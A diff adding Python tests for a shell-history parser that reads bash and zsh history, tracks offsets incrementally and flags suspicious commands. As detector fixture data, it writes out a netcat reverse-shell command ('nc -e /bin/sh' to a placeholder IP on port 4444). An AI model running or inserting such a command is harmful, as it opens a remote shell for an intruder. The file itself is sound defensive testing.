@@ -0,0 +1,66 @@
+from src.history import parse_history, read_history, split_lines
+from src.state import StateStore
+
+
+def test_split_lines():
+    data = "ls\r\ncafé\n\npwd".encode()
+    lines, offsets = split_lines(data, base=100)
+    assert lines == ["ls", "café", "", "pwd"]
+    assert offsets == [100, 104, 110, 111]
+    assert split_lines(b"a\nb\n") == (["a", "b"], [0, 2])
+
+
+def test_bash_timestamps():
+    entries = parse_history(["#1700000000", "ls -la", "pwd", "#1700000100", "", "id"])
+    assert [(e["time"], e["cmd"]) for e in entries] == [(1700000000, "ls -la"), (None, "pwd"), (None, "id")]
+
+
+def test_zsh_extended():
+    lines = [": 1700000000:0;echo a \\", "b \\", "c", ": 1700000005:2;ls"]
+    entries = parse_history(lines, [0, 20, 24, 26])
+    assert entries == [{"time": 1700000000, "cmd": "echo a \nb \nc", "offset": 0},
+                       {"time": 1700000005, "cmd": "ls", "offset": 26}]
+
+
+def _write_history(path, cmds):
+    path.write_text("".join(f"#{1700000000 + i}\n{c}\n" for i, c in enumerate(cmds)))
+
+
+def test_read_history_suspicious(tmp_path):
+    path = tmp_path / ".bash_history"
+    cmds = ["ls", "nc -e /bin/sh 203.0.113.9 4444", "ls", "pwd"]
+    _write_history(path, cmds)
+    out = read_history(str(path), max_commands=10)
+    assert (out["total"], out["unique"], out["truncated"]) == (4, 3, False)
+    assert [c["cmd"] for c in out["commands"]] == [cmds[1], "ls", "pwd"]
+    assert [c["count"] for c in out["commands"]] == [1, 2, 1]
+    [s] = out["suspicious"]
+    data = path.read_bytes()
+    assert data[s["offset"] + s["column"]:].startswith(s["indicator"].encode())
+    assert s["last"] == 1700000001
+    assert read_history(str(path), max_commands=2)["truncated"]
+
+
+def test_read_history_incremental(tmp_path):
+    path = tmp_path / ".bash_history"
+    _write_history(path, ["ls", "pwd"])
+    with StateStore(str(tmp_path / "state")) as state:
+        first = read_history(str(path), state=state)
+        assert first["bytes_read"] == path.stat().st_size
+        with open(path, "a") as fh:
+            fh.write("#1700000050\nnc -e /bin/sh 203.0.113.9 4444\n")
+        second = read_history(str(path), state=state)
+        assert second["bytes_read"] == len("#1700000050\nnc -e /bin/sh 203.0.113.9 4444\n")
+        assert second["total"] == 3
+        full = read_history(str(path))
+        assert second["commands"] == full["commands"]
+        assert second["suspicious"] == full["suspicious"]
+        # another consumer starts from the beginning
+        assert read_history(str(path), state=state, user="alice")["bytes_read"] == path.stat().st_size
+
+
+def test_fake_root_history(fake_root):
+    out = read_history(f"{fake_root}/home/user00000/.bash_history")
+    assert out["total"] == 40
+    assert [s["indicator"] for s in out["suspicious"]]
+    assert not read_history(f"{fake_root}/home/user00001/.bash_history")["suspicious"]